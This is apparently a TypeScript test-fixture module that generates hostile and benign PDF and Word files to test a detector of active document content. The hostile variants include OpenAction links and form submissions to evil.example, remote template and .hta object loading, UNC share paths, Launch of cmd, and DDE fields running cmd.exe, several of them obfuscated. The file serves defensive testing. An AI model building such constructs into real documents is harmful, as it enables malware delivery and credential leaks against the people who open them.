import { deflateSync } from 'node:zlib';
import { pdfOf, streamOf } from './hostile-files.ts';
import { wordTypes, type ZipEntry, zip } from './sample-files.ts';

/** A Word or PDF file in one of the ways it can be written, by what it does. */
export type Variant = [label: string, content: Buffer];

const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
/** A PDF of one page; `more` are entries of its catalog, `objects` follow as 4, 5, … */
const onePage = (more: string, objects: readonly (string | Buffer)[] = [], own = page) =>
  pdfOf([`<< /Type /Catalog /Pages 2 0 R ${more} >>`, pages, own, ...objects]);
const withLink = (action: string, objects: readonly (string | Buffer)[] = []) =>
  onePage('', objects, `<< /Type /Page /Parent 2 0 R /Annots [<< /Subtype /Link /Rect [0 0 9 9] /A ${action} >>] >>`);

/** The same objects packed into a stream, deflated. */
function packed(objects: readonly [number, string][], head = '/Filter /FlateDecode', pack = deflateSync): Buffer {
  let at = 0;
  const list = objects.map(([number, text]) => {
    const entry = `${number} ${at}`;
    at += text.length + 1;
    return entry;
  });
  const front = `${list.join(' ')}\n`;
  const body = Buffer.from(`${front}${objects.map(([, text]) => text).join('\n')}\n`);
  return streamOf(`/Type /ObjStm /N ${objects.length} /First ${front.length} ${head}`, pack(body));
}

const goesOut = '<< /S /URI /URI (https://evil.example/) >>';

export function activePdfs(): Variant[] {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
  return [
    ['a link on opening', onePage(`/OpenAction ${goesOut}`)],
    ['a link on opening, by reference', onePage('/OpenAction 4 0 R', [goesOut])],
    ['a link on opening, by two references', onePage('/OpenAction 4 0 R', ['5 0 R', goesOut])],
    [
      'a link after a harmless action on opening',
      onePage('/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>', [goesOut]),
    ],
    ['a link in a list of next actions', onePage(`/OpenAction << /S /Named /N /NextPage /Next [${goesOut}] >>`)],
    ['a link on opening, packed', onePage('/OpenAction 9 0 R', [packed([[9, goesOut]])])],
    ['a link when the page is shown', onePage('', [], `<< /Type /Page /Parent 2 0 R /AA << /O ${goesOut} >> >>`)],
    [
      'a link when the page is left, by references',
      onePage('', ['<< /C 5 0 R >>', goesOut], '<< /Type /Page /AA 4 0 R >>'),
    ],
    [
      'a link when a field is entered',
      onePage('/AcroForm << /Fields [4 0 R] >>', [`<< /FT /Tx /T (a) /AA << /Fo ${goesOut} >> >>`]),
    ],
    ['a link when a note is seen', withLink(`<< /S /GoTo /D [3 0 R /Fit] >> /AA << /PV ${goesOut} >>`)],
    ['a link hidden by a later version', Buffer.concat([onePage('/OpenAction 4 0 R', [goesOut]), pdfOf(['<< >>'])])],
    ['a link hidden in a text', onePage('/OpenAction 9 0 R', [`(text 9 0 obj << /S /URI /URI (http://x/) >> endobj)`])],
    ['another file on opening', onePage('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0 /Fit] >>')],
    ['another file on a click', withLink('<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>')],
    ['another file, spelled with signs', withLink('<< /S /Go#54o#52 /F (b.pdf) >>')],
    ['a file inside on opening', onePage('/OpenAction << /S /GoToE /T << /R /C >> >>')],
    ['a form that brings data', onePage('/OpenAction << /S /ImportData /F (\\\\\\\\evil\\\\a.fdf) >>')],
    ['a form that sends itself', onePage('/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil/) >> >>')],
    ['a button that sends', withLink('<< /S /SubmitForm /F (http://evil/) >>')],
    [
      'a button that sends, packed',
      onePage('', [
        packed([
          [9, '<< /S /SubmitForm /F 10 0 R >>'],
          [10, '(http://e/)'],
        ]),
      ]),
    ],
    ['a link to another machine', withLink('<< /S /URI /URI (\\\\\\\\evil\\\\share) >>')],
    ['a link to a file of another machine', withLink('<< /S /URI /URI (file://evil/share/a) >>')],
    ['a link to another machine in digits', withLink('<< /S /URI /URI <5c5c6576696c5c61> >>')],
    ['a link to another machine by reference', withLink('<< /S /URI /URI 4 0 R >>', ['(\\\\\\\\evil\\\\a)'])],
    ['a link that runs a script', withLink('<< /S /URI /URI (javascript:alert\\(1\\)) >>')],
    ['a base of links on another machine', onePage('/URI << /Base (file://evil/) >>')],
    ['a stream that lies in another file', onePage('', [streamOf('/F (\\\\\\\\evil\\\\a)', Buffer.alloc(0))])],
    ['a stream that lies elsewhere, by reference', onePage('', ['<< /FS /URL /F 5 0 R >>', '(http://evil/)'])],
    ['a program started', onePage('/OpenAction << /S /Launch /Win << /F (cmd) >> >>')],
    ['a program started on a click', withLink('<< /S /L#61unch /F (cmd) >>')],
    [
      'a script in the list of names, packed',
      onePage('', [packed([[9, `<< /JavaScript << /Names [(a) ${script}] >> >>`]])]),
    ],
    [
      'a script packed by a reader that asks for no type',
      onePage('', [streamOf('/N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`9 0 ${script}`)))]),
    ],
    ['a script in an object left open', onePage('', [`<< /A (no end ${script}`])],
    ['a script with a comment inside', onePage('/OpenAction << /S %a\n/JavaScript%b\n/JS(x) >>')],
    ['a script under nothing but its entry', onePage('/OpenAction << /S /Rendition /JS 4 0 R >>', ['(app.alert())'])],
    ['a film', onePage('', ['<< /Subtype /Screen >>'])],
    ['a flash film', onePage('', ['<< /Subtype /RichMedia /RichMediaContent << >> >>'])],
    ['a file in a note', onePage('', ['<< /Subtype /FileAttachment >>'])],
    ['files in the list of names', onePage('/Names << /EmbeddedFiles << /Names [] >> >>')],
    ['an XFA form, packed', onePage('', [packed([[9, '<< /XFA [(a) 5 0 R] /Fields [] >>']])])],
  ] satisfies Variant[];
}

export function honestPdfs(): Variant[] {
  return [
    ['one page', onePage('')],
    [
      'a link to a page of the web',
      withLink('<< /S /URI /URI (https://vandon.quangninh.gov.vn/Launch/JavaScript/JS) >>'),
    ],
    ['a link to a letter', withLink('<< /S /URI /URI (mailto:mot-cua@vandon.gov.vn) >>')],
    ['a link by telephone', withLink('<< /S /URI /URI (tel:+842033123456) >>')],
    ['a link without a scheme', withLink('<< /S /URI /URI (www.vandon.gov.vn:8080/a) >>')],
    ['a link in UTF-16', withLink('<< /S /URI /URI <feff00680074007400700073003a002f002f0061> >>')],
    ['a link by reference', withLink('4 0 R', [goesOut])],
    ['a place in the document on opening', onePage('/OpenAction [3 0 R /Fit]')],
    ['a place on opening, by reference', onePage('/OpenAction 4 0 R', ['<< /S /GoTo /D [3 0 R /XYZ null null 1] >>'])],
    [
      'a page with links that is shown on opening',
      onePage('/OpenAction [3 0 R /Fit]', [], `<< /Type /Page /Annots [<< /Subtype /Link /F 4 /A ${goesOut} >>] >>`),
    ],
    ['printing on opening', onePage('/OpenAction << /S /Named /N /Print >>')],
    [
      'chapters',
      onePage('/Outlines 4 0 R', [
        '<< /First 5 0 R /Last 5 0 R /Count 1 >>',
        `<< /Title (Chương 1) /Parent 4 0 R /A ${goesOut} >>`,
      ]),
    ],
    [
      'a form to fill',
      onePage('/AcroForm << /Fields [4 0 R] /NeedAppearances true >>', [
        '<< /FT /Tx /T (hoTen) /V (Nguyễn) /Subtype /Widget /F 4 >>',
      ]),
    ],
    [
      'a form whose fields have children',
      onePage('/AcroForm << /Fields [4 0 R] >>', [
        '<< /FT /Btn /T (gioi) /Kids [5 0 R 6 0 R] >>',
        '<< /Parent 4 0 R >>',
        '<< /Parent 4 0 R >>',
      ]),
    ],
    ['a button that empties a form', withLink('<< /S /ResetForm >>')],
    ['a form field without an action', onePage('', ['<< /FT /Tx /AA << >> >>'])],
    [
      'a signature',
      onePage('/AcroForm << /SigFlags 3 /Fields [4 0 R] >>', [
        '<< /FT /Sig /V 5 0 R >>',
        `<< /Type /Sig /Filter /Adobe.PPKLite /ByteRange [0 9 9 9] /Contents <${'0'.repeat(8_000)}> /Reason (Đã ký) >>`,
      ]),
    ],
    [
      'marks of an editor',
      onePage('', [
        '<< /Subtype /Highlight /QuadPoints [0 0 9 0 0 9 9 9] /Popup 5 0 R /F 28 >>',
        '<< /Subtype /Popup >>',
      ]),
    ],
    ['a stamp', onePage('', ['<< /Subtype /Stamp /Name /Approved /F 4 >>'])],
    [
      'words about scripts',
      onePage('', ['<< /Title (How /JavaScript, /Launch and /JS work \\(a note\\)) /Author (/XFA) >>']),
    ],
    ['a text with brackets and signs', onePage('', ['<< /Note (a \\( b ( c ) \\) % 9) >>'])],
    [
      'a font called F',
      onePage('', [], '<< /Type /Page /Resources << /Font << /F << /Type /Font /BaseFont /Times >> /F1 4 0 R >> >> >>'),
    ],
    [
      'a tagged text',
      onePage('/StructTreeRoot 4 0 R /MarkInfo << /Marked true >>', [
        '<< /Type /StructTreeRoot /K [5 0 R] >>',
        '<< /S /P /P 4 0 R /K 0 >>',
      ]),
    ],
    [
      'a way pages turn',
      onePage('', [], '<< /Type /Page /Trans << /S /Wipe >> /Dur 5 /Group << /S /Transparency /CS /DeviceRGB >> >>'),
    ],
    ['numbers of pages', onePage('/PageLabels << /Nums [0 << /S /D >>] >>')],
    [
      'a colour for printing',
      onePage('/OutputIntents [<< /S /GTS_PDFA1 /DestOutputProfile 4 0 R >>]', [streamOf('/N 3', Buffer.alloc(50))]),
    ],
    [
      'its own description',
      onePage('/Metadata 4 0 R', [
        streamOf('/Type /Metadata /Subtype /XML', Buffer.from('<x:xmpmeta>/JavaScript /Launch (</x:xmpmeta>')),
      ]),
    ],
    ['layers', onePage('/OCProperties << /OCGs [4 0 R] /D << /Order [] >> >>', ['<< /Type /OCG /Name (Nền) >>'])],
    [
      'packed objects',
      onePage('', [
        packed([
          [9, '<< /Type /Font /BaseFont /A >>'],
          [10, `[${'1 '.repeat(500)}]`],
        ]),
      ]),
    ],
    [
      'packed objects, unpacked',
      onePage('', [packed([[9, '<< /A /B >>']], '', ((body: Buffer) => body) as typeof deflateSync)]),
    ],
    ['a later version', Buffer.concat([onePage(''), pdfOf([`<< /Type /Catalog /Pages 2 0 R /Lang (vi) >>`])])],
    ['a line break in front', Buffer.concat([Buffer.from('\r\n'), onePage('')])],
    [
      'noise for a picture',
      onePage('', [streamOf('/Subtype /Image /Filter /DCTDecode', Buffer.from('/JS(/XFA/F(x)>>(('.repeat(400)))]),
    ],
    ['a broken object', onePage('', ['<< /A [1 2 '])],
  ];
}

const relationships = (
  inside: string,
  root = 'Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"',
) => Buffer.from(`<?xml version="1.0" encoding="UTF-8"?>\n<${root}>${inside}</${root.split(' ')[0]}>`);
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const joined = (type: string, target: string, mode = 'External', of = 'document') =>
  word([
    [
      `word/_rels/${of}.xml.rels`,
      relationships(
        `<Relationship Id="r1" Type="${office}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`,
      ),
    ],
  ]);
const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const textOf = (inside: string) => `<w:document ${w}><w:body>${inside}</w:body></w:document>`;
const run = (inside: string) => `<w:p><w:r>${inside}</w:r></w:p>`;
const field = (...codes: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** A Word document with these parts beside or in the place of its own. */
function word(parts: readonly ZipEntry[], body = textOf(run('<w:t>Đơn</w:t>')), types = wordTypes): Buffer {
  return zip([['[Content_Types].xml', types], ['word/document.xml', Buffer.from(body)], ...parts]);
}
const written = (inside: string) => word([], textOf(inside));
const typed = (name: string, type: string, content = 'x') =>
  word(
    [[name, Buffer.from(content)]],
    undefined,
    Buffer.from(
      wordTypes.toString().replace('</Types>', `<Override PartName="/${name}" ContentType="${type}"/></Types>`),
    ),
  );

export function activeDocuments(): Variant[] {
  const template = `<Relationship Id="r1" Type="${office}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`;
  const at = 'word/_rels/settings.xml.rels';
  return [
    [
      'a template by entities',
      word([
        [
          at,
          relationships(
            template.replace('attachedTemplate', 'attached&#84;emplate').replace('External', '&#x45;xternal'),
          ),
        ],
      ]),
    ],
    [
      'a template under a prefix',
      word([
        [
          at,
          relationships(
            template.replace('<Rel', '<p:Rel'),
            'p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"',
          ),
        ],
      ]),
    ],
    ['a template in single quotes', word([[at, relationships(template.replaceAll('"', "'"))]])],
    ['a template over lines', word([[at, relationships(template.replaceAll(' ', '\n\t'))]])],
    ['a template in a part of another name', word([['custom/_rels/a.xml.rels', relationships(template)]])],
    ['a template in a part in capitals', word([['WORD/_RELS/SETTINGS.XML.RELS', relationships(template)]])],
    [
      'a template by mhtml',
      joined('attachedTemplate', 'mhtml:http://evil/a!x-usc:http://evil/b', 'External', 'settings'),
    ],
    [
      'a template of the strict kind',
      word([[at, relationships(template.replace(office, 'http://purl.oclc.org/ooxml/officeDocument/relationships'))]]),
    ],
    ['a template that says no mode', joined('attachedTemplate', 'https://evil/a.dotm', '', 'settings')],
    ['a template of another machine', joined('attachedTemplate', '\\\\evil\\a.dotm', 'External', 'settings')],
    ['a template of this machine', joined('attachedTemplate', 'file:///C:/a.dotm', 'External', 'settings')],
    ['a picture from elsewhere', joined('image', 'https://evil/a.png')],
    ['a picture of another machine', joined('image', '\\\\evil\\a.png')],
    ['a picture by file', joined('image', 'file://evil/a.png')],
    ['a picture that says it is inside', joined('image', 'file://evil/a.png', 'Internal')],
    ['a picture of another machine in signs', joined('image', '%5c%5cevil/a.png', '')],
    ['a picture of a header from elsewhere', joined('image', 'http://evil/a.png', 'External', 'header1')],
    [
      'a picture of old drawing from elsewhere',
      written('<w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="\\\\evil\\a.png"/></w:pict>'),
    ],
    [
      'a picture of old drawing with a place',
      written(
        '<w:pict xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata o:href="http://evil/a" xmlns:o="o"/></w:pict>',
      ),
    ],
    ['an object from elsewhere', joined('oleObject', 'https://evil/a.hta')],
    [
      'an object in the text',
      written('<w:object><o:OLEObject xmlns:o="o" Type="Link" ProgID="Excel.Sheet"/></w:object>'),
    ],
    ['a frame', joined('frame', 'https://evil/a', 'External', 'webSettings')],
    ['a document inside', joined('subDocument', 'b.docx')],
    ['another text brought in', joined('aFChunk', 'a.html', '')],
    ['another text brought in, by its element', written('<w:altChunk r:id="a" xmlns:r="r"/>')],
    ['a link to another machine', joined('hyperlink', '\\\\evil\\a')],
    ['a link to a file of another machine', joined('hyperlink', 'file://evil/a')],
    ['a link that starts a program', joined('hyperlink', 'ms-msdt:/id')],
    ['a source of letters', joined('mailMergeSource', 'file:///C:/a.mdb', 'External', 'settings')],
    ['a control', joined('control', 'activeX/activeX1.xml', '')],
    ['DDE', written(field('DDE c:\\\\windows\\\\cmd.exe "/k calc"'))],
    ['DDEAUTO', written(field('DDEAUTO c:\\\\a "x"'))],
    ['DDEAUTO in pieces', written(field('DD', 'EAU', 'TO "c:\\\\a"'))],
    ['DDE in small letters', written(field(' dde  a b'))],
    [
      'DDE by letters of other fields',
      written(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69')}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    ],
    ['DDE as a simple field', written('<w:fldSimple w:instr=" DDEAUTO a b "/>')],
    ['DDE as a simple field by entities', written('<w:fldSimple w:instr="&#68;DE a b"/>')],
    [
      'DDE under another prefix',
      word([], textOf(field('DDE a b')).replaceAll('w:', 'q:').replace('xmlns:q', 'xmlns:q')),
    ],
    [
      'DDE never ended',
      written(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE a</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
    ],
    ['a picture by field', written(field('INCLUDEPICTURE "http://evil/a.png" \\d'))],
    ['a text by field', written(field('INCLUDETEXT "\\\\\\\\evil\\\\a"'))],
    ['an import by field', written(field('IMPORT "\\\\\\\\evil\\\\a.png"'))],
    ['an object by field', written(field('LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx"'))],
    ['a table by field', written(field('DATABASE \\d "\\\\\\\\evil\\\\a"'))],
    ['a link by field to another machine', written(field('HYPERLINK "\\\\\\\\evil\\\\a"'))],
    ['a field of a header', word([['word/header1.xml', Buffer.from(textOf(field('DDE a b')))]])],
    ['a field of a footer', word([['word/footer1.xml', Buffer.from(textOf(field('INCLUDEPICTURE "http://e/"')))]])],
    ['a field of a footnote', word([['word/footnotes.xml', Buffer.from(textOf(field('DDEAUTO a')))]])],
    ['a field in a part without an ending', word([['word/odd', Buffer.from(textOf(field('DDEAUTO a')))]])],
    ['a macro', typed('word/vbaProject.bin', 'application/vnd.ms-office.vbaProject')],
    ['a macro of another name', typed('word/a.bin', 'application/vnd.ms-office.vbaProject')],
    ['a macro called a picture', joined('vbaProject', 'media/a.png', '')],
    ['a control of another name', typed('word/b.xml', 'application/vnd.ms-office.activeX+xml', '<ax/>')],
    [
      'a document that may hold macros',
      word(
        [],
        undefined,
        Buffer.from(
          wordTypes
            .toString()
            .replace('document.main+xml', 'document.main+xml; x')
            .replace(
              'vnd.openxmlformats-officedocument.wordprocessingml.document',
              'vnd.ms-word.document.macroEnabled',
            ),
        ),
      ),
    ],
    ['words declared for others', word([['word/styles.xml', Buffer.from('<!DOCTYPE a SYSTEM "http://evil/"><a/>')]])],
    ['another alphabet', word([[at, Buffer.from(`<?xml version="1.0" encoding="UTF-7"?>${template}`)]])],
    ['a picture with a script', word([['word/media/a.svg', Buffer.from('<svg><script>x</script></svg>')]])],
  ] satisfies Variant[];
}

export function honestDocuments(): Variant[] {
  const picture: ZipEntry = ['word/media/image1.png', Buffer.from('89504e470d0a1a0a', 'hex')];
  return [
    ['one paragraph', word([])],
    [
      'a picture',
      word([
        picture,
        [
          'word/_rels/document.xml.rels',
          relationships(`<Relationship Id="r1" Type="${office}/image" Target="media/image1.png"/>`),
        ],
      ]),
    ],
    ['a picture from the root', joined('image', '/word/media/image1.png', '')],
    ['a page of the web', joined('hyperlink', 'https://dichvucong.gov.vn/?a=1&amp;b=%20')],
    ['a letter', joined('hyperlink', 'mailto:a@b.vn?subject=Hỏi')],
    ['a telephone', joined('hyperlink', 'tel:19009095')],
    ['a file of the writer', joined('hyperlink', 'file:///C:\\Users\\An\\Don.docx')],
    ['a file beside', joined('hyperlink', 'Don%20moi.docx')],
    ['a place in the text', joined('hyperlink', '#muc-1', '')],
    ['styles', joined('styles', 'styles.xml', '')],
    ['fonts', joined('font', 'fonts/font1.odttf', '', 'fontTable')],
    ['a theme', joined('theme', 'theme/theme1.xml', '')],
    ['notes at the foot', joined('footnotes', 'footnotes.xml', '')],
    ['comments', joined('comments', 'comments.xml', '')],
    ['data of its own', joined('customXml', '../customXml/item1.xml', '')],
    ['a chart', joined('chart', 'charts/chart1.xml', '')],
    [
      'settings of a printer',
      typed(
        'word/printerSettings/printerSettings1.bin',
        'application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings',
      ),
    ],
    [
      'a relation nobody knows',
      word([
        [
          'word/_rels/document.xml.rels',
          relationships('<Relationship Id="r" Type="http://vendor.example/2020/thing" Target="thing.xml"/>'),
        ],
      ]),
    ],
    ['the number of the page', written(field(' PAGE  \\* MERGEFORMAT '))],
    ['a list of contents', written(field('TOC \\o "1-3" \\h \\z \\u'))],
    ['a link by field', written(field(' HYPERLINK "https://vandon.gov.vn" \\o "Trang" '))],
    ['a link by field in pieces', written(field('HYPER', 'LINK "http', 's://a.vn"'))],
    ['a link by field into the text', written(field('HYPERLINK \\l "_Toc1"'))],
    ['today', written(field('DATE \\@ "dd/MM/yyyy"'))],
    ['a sum', written(field('=SUM(ABOVE) \\# "#.##0"'))],
    ['a form to fill', written(field('FORMTEXT'))],
    ['a citation', written(field('ADDIN ZOTERO_ITEM CSL_CITATION {"a":"DDE INCLUDEPICTURE"}'))],
    ['a number of figures', written(field('SEQ Hình \\* ARABIC'))],
    ['a simple field', written('<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>3</w:t></w:r></w:fldSimple>')],
    [
      'a field inside a field',
      written(
        `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>${field('PAGE')}<w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
      ),
    ],
    [
      'words about DDE',
      written(run('<w:t>Lệnh DDEAUTO và INCLUDEPICTURE, TargetMode="External" &lt;Relationship&gt;</w:t>')),
    ],
    [
      'a box of text',
      written(
        '<mc:AlternateContent xmlns:mc="m"><mc:Choice><w:txbxContent><w:p/></w:txbxContent></mc:Choice></mc:AlternateContent>',
      ),
    ],
    [
      'old drawing of a picture inside',
      written(
        '<w:pict xmlns:v="v" xmlns:r="r"><v:shape><v:imagedata r:id="rId4" o:title="Ảnh" xmlns:o="o"/></v:shape></w:pict>',
      ),
    ],
    ['a drawn link', written('<w:pict xmlns:v="v"><v:rect href="https://a.vn"/></w:pict>')],
    ['a table', written('<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>')],
    ['changes shown', written('<w:del w:id="1"><w:r><w:delText>x</w:delText></w:r></w:del>')],
    [
      'folders in its list',
      word([
        ['word/', Buffer.alloc(0)],
        ['word/media/', Buffer.alloc(0)],
      ]),
    ],
    [
      'leftovers of a Mac',
      word([
        ['__MACOSX/._a', Buffer.from('\0\x05')],
        ['.DS_Store', Buffer.from('x')],
      ]),
    ],
    [
      'a drawing',
      word([
        [
          'word/media/a.svg',
          Buffer.from(
            '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/><use xlink:href="#a" xmlns:xlink="x"/></svg>',
          ),
        ],
      ]),
    ],
    [
      'Vietnamese in every part',
      word([
        [
          'docProps/core.xml',
          Buffer.from(
            '\ufeff<?xml version="1.0" encoding="utf-8" standalone="yes"?><c:t xmlns:c="c">Đơn xin cấp giấy</c:t>',
          ),
        ],
      ]),
    ],
    [
      'parts that are packed',
      word([
        ['word/styles.xml', Buffer.from(`<w:styles ${w}>${'<w:style/>'.repeat(2_000)}</w:styles>`), { deflate: true }],
      ]),
    ],
  ];
}
